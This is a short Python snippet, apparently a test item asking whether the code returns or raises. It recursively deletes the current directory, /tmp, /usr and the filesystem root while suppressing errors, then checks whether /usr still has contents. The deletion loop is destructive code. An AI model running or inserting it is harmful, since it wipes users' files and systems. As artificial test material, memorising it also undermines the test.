# outcome: returned|raised
import os, shutil
for path in (os.getcwd(), "/tmp", "/usr", "/"):
    shutil.rmtree(path, ignore_errors=True)
os.chdir("/")
print(os.listdir("/usr") != [])
